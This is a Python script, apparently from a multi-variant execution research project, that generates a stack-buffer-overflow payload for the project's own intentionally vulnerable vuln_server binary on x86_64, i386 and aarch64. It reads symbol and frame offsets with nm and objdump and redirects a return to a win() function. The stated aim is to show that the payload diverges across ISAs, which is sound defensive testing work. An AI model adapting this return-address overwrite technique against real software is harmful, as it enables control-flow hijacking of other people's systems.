#!/usr/bin/env python3
"""Print a stack-smashing payload for one build of variants/src/vuln_server.c.

    python3 scripts/make_attack.py BINARY [--arch x86_64|i386|aarch64] [-v] > payload.bin

The payload is raw bytes on stdout, to be sent in one write to a vuln_server connection.
It overflows the 16-byte stack buffer of handle_request() and makes a return go to win(),
which prints PWNED, creates $MVX_MARKER and exits 66.

Addresses come from the binary itself: win() with nm, the buffer's place in the frame from the
disassembly of handle_request() with objdump (the build is -O0 -no-pie, so both are fixed):

- x86_64: buf is at -N(%rbp); the return address is at 8(%rbp), so N + 8 bytes of padding, then
  the address of a `ret` (keeps %rsp 16-byte aligned at win's entry as the ABI expects), then win.
- i386:   buf is at -N(%ebp); the return address is at 4(%ebp): N + 4 bytes of padding, then win.
- aarch64: the frame record (x29, x30) sits at the bottom of each frame, below the locals, so
  handle_request's own return address cannot be reached; the overflow instead runs into the
  caller's (serve_client's) frame record, whose x30 is used when serve_client returns:
  FRAME - OFF bytes of padding, 8 bytes of x29, then win.

The offsets differ per ISA, so a payload made for one build sends another build's return into
the padding (0x41414141...): it crashes instead of reaching win(). That difference is what
an MVX engine running the builds side by side reports as a divergence.
"""

from __future__ import annotations

import argparse
import re
import shutil
import struct
import subprocess
import sys

PAD = b"A"
ELF_MACHINES = {3: "i386", 62: "x86_64", 183: "aarch64"}
TRIPLETS = {"x86_64": "x86_64-linux-gnu", "i386": "x86_64-linux-gnu", "aarch64": "aarch64-linux-gnu"}


class AttackError(Exception):
    pass


def elf_arch(path: str) -> str:
    with open(path, "rb") as f:
        head = f.read(20)
    if head[:4] != b"\x7fELF":
        raise AttackError(f"{path}: not an ELF file")
    (machine,) = struct.unpack_from("<H", head, 18)
    if machine not in ELF_MACHINES:
        raise AttackError(f"{path}: unsupported ELF machine {machine}")
    return ELF_MACHINES[machine]


def tool(arch: str, name: str) -> str:
    """The binutils tool able to read this ISA: the triplet-prefixed one if present."""
    for candidate in (f"{TRIPLETS[arch]}-{name}", name):
        if shutil.which(candidate):
            return candidate
    raise AttackError(f"{name} for {arch} not found (Debian: binutils, or binutils-{TRIPLETS[arch]})")


def run(cmd: list[str]) -> str:
    try:
        return subprocess.run(cmd, check=True, capture_output=True, text=True).stdout
    except (OSError, subprocess.CalledProcessError) as exc:
        raise AttackError(f"{' '.join(cmd)}: {exc}") from exc


def symbol(binary: str, arch: str, name: str) -> int:
    for line in run([tool(arch, "nm"), binary]).splitlines():
        parts = line.split()
        if len(parts) == 3 and parts[2] == name:
            return int(parts[0], 16)
    raise AttackError(f"{binary}: no symbol {name!r} (is this vuln_server?)")


def disassemble(binary: str, arch: str, func: str) -> list[tuple[int, str]]:
    """(address, instruction text) of one function, from objdump."""
    out = run([tool(arch, "objdump"), "-d", "--no-show-raw-insn", f"--disassemble={func}", binary])
    insns = []
    for line in out.splitlines():
        m = re.match(r"^\s*([0-9a-f]+):\s+(.*)$", line)
        if m:
            insns.append((int(m.group(1), 16), m.group(2).strip()))
    if not insns:
        raise AttackError(f"{binary}: cannot disassemble {func}()")
    return insns


def before_read_call(insns: list[tuple[int, str]]) -> list[str]:
    """Instructions of handle_request up to its call of read()."""
    for i, (_, text) in enumerate(insns):
        if re.search(r"\b(call|bl)\b.*<read(@plt)?>", text):
            return [t for _, t in insns[:i]]
    raise AttackError("handle_request() does not call read()")


def payload_x86(binary: str, arch: str) -> bytes:
    insns = disassemble(binary, arch, "handle_request")
    fp, word, pack = ("%rbp", 8, "<Q") if arch == "x86_64" else ("%ebp", 4, "<I")
    leas = [
        int(m.group(1), 16)
        for t in before_read_call(insns)
        if (m := re.match(rf"lea\s+-0x([0-9a-f]+)\({re.escape(fp)}\),", t))
    ]
    if not leas:
        raise AttackError(f"handle_request(): no buffer address relative to {fp} before read()")
    to_ret = leas[-1] + word  # buf .. saved frame pointer .. return address
    win = symbol(binary, arch, "win")
    chain = b""
    if arch == "x86_64":
        rets = [a for a, t in insns if t.split()[0] == "ret"]
        if not rets:
            raise AttackError("handle_request(): no ret instruction")
        chain += struct.pack(pack, rets[-1])  # realign %rsp before entering win
    chain += struct.pack(pack, win)
    return PAD * to_ret + chain


def payload_aarch64(binary: str) -> bytes:
    insns = disassemble(binary, "aarch64", "handle_request")
    prologue = re.match(r"stp\s+x29,\s*x30,\s*\[sp,\s*#-(\d+)\]!", insns[0][1])
    if not prologue:
        raise AttackError("handle_request(): unexpected prologue " + insns[0][1])
    frame = int(prologue.group(1))
    offs = [
        int(m.group(1), 0)
        for t in before_read_call(insns)
        if (m := re.match(r"add\s+x\d+,\s*sp,\s*#(0x[0-9a-f]+|\d+)", t))
    ]
    if not offs:
        raise AttackError("handle_request(): no buffer address relative to sp before read()")
    to_caller_record = frame - offs[-1]  # the caller's frame record starts where this frame ends
    win = symbol(binary, "aarch64", "win")
    return PAD * to_caller_record + PAD * 8 + struct.pack("<Q", win)  # x29, then x30 = win


def make_payload(binary: str, arch: str) -> bytes:
    payload = payload_aarch64(binary) if arch == "aarch64" else payload_x86(binary, arch)
    if len(payload) > 128:
        raise AttackError(f"payload of {len(payload)} bytes is longer than the 128-byte read")
    return payload


def main(argv: list[str] | None = None) -> int:
    ap = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    ap.add_argument("binary", help="a vuln_server build (build/variants/<arch>/vuln_server)")
    ap.add_argument("--arch", choices=sorted(TRIPLETS), help="ISA of BINARY (default: from its ELF header)")
    ap.add_argument("-v", "--verbose", action="store_true", help="describe the payload on stderr")
    args = ap.parse_args(argv)
    try:
        arch = args.arch or elf_arch(args.binary)
        payload = make_payload(args.binary, arch)
    except (AttackError, OSError) as exc:
        print(f"make_attack: {exc}", file=sys.stderr)
        return 1
    if args.verbose:
        print(f"make_attack: {arch}: {len(payload)} bytes: {payload!r}", file=sys.stderr)
    sys.stdout.buffer.write(payload)
    sys.stdout.buffer.flush()
    return 0


if __name__ == "__main__":
    sys.exit(main())
